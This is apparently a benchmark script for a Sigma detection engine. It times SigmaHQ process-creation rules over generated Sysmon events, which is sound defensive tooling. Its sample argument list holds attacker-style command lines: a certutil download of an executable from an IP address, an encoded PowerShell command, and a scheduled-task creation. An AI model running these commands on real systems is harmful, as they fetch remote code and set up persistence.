// Benchmark: the embedded Sigma engine over generated Sysmon EID 1 events.
//   npx tsx bench/sigma-process-creation.ts [events=100000] [baseline-events=events]
// Reads the 1,183 SigmaHQ process_creation rules from ../shared/external/sigma/rules/windows/
// process_creation at run time (never copied), compiles them, and in one run evaluates all of them
// over the same generated events twice: through SigmaRuleSet (one pass, log-source groups and
// literal prefilter), then as the same-run baseline through the single-rule loop (every rule's
// testContext on every event, the path before the rule set). The baseline may run on the first
// `baseline-events` events only (it is ~100x slower); matches (rule × event) are compared on the
// events both saw. Then the lab's T1546.016 rule alone and a walk that only builds contexts.
// Prints events/s, wall and CPU time, peak RSS and ratios. No thresholds: figures only.
import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { SigmaRuleSet, sigmaEngine } from '../detections/engines/sigma/index.ts';
import type { SigmaCompiledRule } from '../detections/engines/sigma/compiled-rule.ts';
import { contextOf } from '../detections/engines/sigma/evaluate.ts';
import { T } from '../detections/engines/sigma/logic.ts';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const EXTERNAL = process.env.ATOMIC_LAB_EXTERNAL ?? path.resolve(ROOT, '../shared/external');
const N = Number(process.argv[2] ?? 100_000);
const BASE_N = Math.min(N, Number(process.argv[3] ?? N));

// the process's peak resident set so far (getrusage ru_maxrss, KiB): the loops are synchronous,
// so a sampling timer would never run inside them
const peakRssMiB = () => process.resourceUsage().maxRSS / 1024;

// --- deterministic generator ------------------------------------------------------------------
let seed = 0x2545f491;
const rnd = (n: number) => {
  seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
  return (seed >>> 8) % n;
};
const pick = <T>(a: readonly T[]): T => a[rnd(a.length)]!;
const IMAGES = [
  'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  'C:\\Windows\\System32\\conhost.exe', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Windows\\System32\\msiexec.exe',
  'C:\\Windows\\System32\\rundll32.exe', 'C:\\Windows\\System32\\reg.exe', 'C:\\Windows\\System32\\schtasks.exe', 'C:\\Windows\\explorer.exe',
  'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'C:\\Windows\\System32\\certutil.exe', 'C:\\Users\\alice\\AppData\\Local\\Temp\\setup.exe',
];
const ARGS = [
  '', ' -k netsvcs -p', ' /c echo hello', ' -nop -Command Write-Host ok', ' --type=renderer --field-trial-handle=1234', ' /i C:\\tmp\\app.msi /qn',
  ' shell32.dll,Control_RunDLL', ' query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', ' /create /tn Updater /tr C:\\x.exe /sc daily',
  ' -urlcache -split -f http://203.0.113.7/a.exe', ' -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', ' /c whoami /all',
];
const USERS = ['CORP\\alice', 'CORP\\bob', 'NT AUTHORITY\\SYSTEM'];
function makeEvent(i: number): Record<string, string> {
  const image = pick(IMAGES);
  const parent = pick(IMAGES);
  const name = image.slice(image.lastIndexOf('\\') + 1);
  return {
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    EventID: '1',
    Computer: `WS${rnd(50)}.corp.example`,
    EventRecordID: String(i + 1),
    UtcTime: '2026-11-23 12:00:00.000',
    ProcessGuid: `{5770385f-c22a-43e0-bf4c-${String(i).padStart(12, '0')}}`,
    ProcessId: String(1000 + rnd(60000)),
    Image: image,
    OriginalFileName: name.toUpperCase(),
    CommandLine: `"${image}"${pick(ARGS)}`,
    CurrentDirectory: 'C:\\Windows\\system32\\',
    User: pick(USERS),
    IntegrityLevel: pick(['Medium', 'High', 'System']),
    Hashes: `SHA256=${rnd(1e9).toString(16).padStart(64, '0')}`,
    ParentImage: parent,
    ParentCommandLine: `"${parent}"${pick(ARGS)}`,
    ParentUser: pick(USERS),
  };
}

function loadRules(dir: string): SigmaCompiledRule[] {
  const out: SigmaCompiledRule[] = [];
  for (const f of readdirSync(dir).sort()) {
    if (!f.endsWith('.yml')) continue;
    const file = path.join(dir, f);
    try {
      out.push(sigmaEngine.compile(readFileSync(file, 'utf8'), { file }));
    } catch (e) {
      console.error(`skipped ${f}: ${(e as Error).message}`);
    }
  }
  return out;
}

interface Figures {
  events: number;
  seconds: number;
  cpuSeconds: number;
  matches: string[];
  rssMiB: number;
}

/**
 * Times one candidate over fresh copies of the events (no per-event cache carried over from an
 * earlier candidate); returns the matches as "event:rule" keys.
 */
function run(label: string, events: readonly Record<string, string>[], each: (e: Record<string, string>, i: number, out: string[]) => void): Figures {
  const evs = events.map((e) => ({ ...e }));
  const matches: string[] = [];
  const t0 = process.hrtime.bigint();
  const c0 = process.cpuUsage();
  for (let i = 0; i < evs.length; i++) each(evs[i]!, i, matches);
  const seconds = Number(process.hrtime.bigint() - t0) / 1e9;
  const cpu = process.cpuUsage(c0);
  const cpuSeconds = (cpu.user + cpu.system) / 1e6;
  const rssMiB = peakRssMiB();
  // CPU time is printed beside wall time: on a shared machine wall time includes waiting for a core
  console.log(
    `${label.padEnd(48)} ${(evs.length / seconds).toFixed(0).padStart(9)} events/s ${seconds.toFixed(2).padStart(8)} s wall ${cpuSeconds.toFixed(2).padStart(8)} s CPU ${String(matches.length).padStart(7)} matches  peak RSS so far ${rssMiB.toFixed(0)} MiB`,
  );
  return { events: evs.length, seconds, cpuSeconds, matches, rssMiB };
}

/** the single-rule path: every rule's testContext on every event */
const loop =
  (rules: readonly SigmaCompiledRule[]) =>
  (e: Record<string, string>, i: number, out: string[]): void => {
    const ctx = contextOf(e);
    for (let r = 0; r < rules.length; r++) if (rules[r]!.testContext(ctx) === T) out.push(`${i}:${r}`);
  };

const t0 = Date.now();
const pcDir = path.join(EXTERNAL, 'sigma/rules/windows/process_creation');
const all = loadRules(pcDir);
const compileS = (Date.now() - t0) / 1000;
const t1 = Date.now();
const set = new SigmaRuleSet(all);
const indexS = (Date.now() - t1) / 1000;
const lab = loadRules(path.join(ROOT, 'detections/sigma')).filter((r) => r.detectionType === 'INSTALLER_SCRIPT_CHILD');
const events = Array.from({ length: N }, (_, i) => makeEvent(i));
console.log(`node ${process.version}, ${N} generated Sysmon EID 1 events; ${all.length} process_creation rules compiled in ${compileS.toFixed(2)} s`);
const st = set.stats;
console.log(
  `rule set built in ${indexS.toFixed(2)} s: ${st.groups} log-source group(s), ${st.atoms} literal atoms, ${st.unfiltered} rules without a necessary literal (evaluated on every event)`,
);

const after = run(`after:  SigmaRuleSet, ${all.length} rules`, events, (e, i, out) => {
  for (const r of set.match(e)) out.push(`${i}:${r}`);
});
const before = run(`before: single-rule loop, ${all.length} rules`, events.slice(0, BASE_N), loop(all));
const one = run('T1546.016 rule (INSTALLER_SCRIPT_CHILD) alone', events, loop(lab));
const walk = run('walk events, build context only', events, (e) => void contextOf(e));

const afterSame = after.matches.filter((m) => Number(m.slice(0, m.indexOf(':'))) < BASE_N);
const same = afterSame.length === before.matches.length && afterSame.every((m, k) => m === before.matches[k]);
console.log(`matches identical on the ${BASE_N} events both paths saw: ${same ? 'yes' : 'NO'} (${before.matches.length} rule × event matches)`);
const rate = (f: Figures) => f.events / f.seconds;
const cpuRate = (f: Figures) => f.events / f.cpuSeconds;
console.log(
  `all rules: ${rate(after).toFixed(0)} vs ${rate(before).toFixed(0)} events/s (wall) = ${(rate(after) / rate(before)).toFixed(1)}x; by CPU time ${(cpuRate(after) / cpuRate(before)).toFixed(1)}x; ${((N * all.length) / after.seconds / 1e6).toFixed(1)} M rule-evaluations/s equivalent`,
);
console.log(`peak RSS after the rule-set run ${after.rssMiB.toFixed(0)} MiB, after the baseline ${before.rssMiB.toFixed(0)} MiB; single rule ${rate(one).toFixed(0)} events/s; context-only walk ${rate(walk).toFixed(0)} events/s`);
if (!same) process.exitCode = 1;
